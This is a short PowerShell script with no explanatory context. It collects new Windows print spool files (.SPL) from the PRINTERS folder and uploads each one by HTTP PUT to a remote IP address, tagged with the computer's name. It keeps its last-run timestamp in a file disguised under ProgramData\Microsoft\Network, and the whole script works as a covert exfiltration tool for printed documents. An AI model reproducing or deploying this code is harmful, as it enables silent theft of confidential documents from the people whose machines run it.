Start-Sleep 4
$m = "$env:ProgramData\Microsoft\Network\last.txt"
Get-ChildItem C:\Windows\System32\spool\PRINTERS\*.SPL |
  Where-Object LastWriteTime -gt (Get-Content $m) |
  ForEach-Object { Invoke-WebRequest -Method Put -InFile $_ "http://192.0.2.118:8081/p/$env:COMPUTERNAME/$($_.Name)" }
(Get-Date).ToString('s') | Set-Content $m
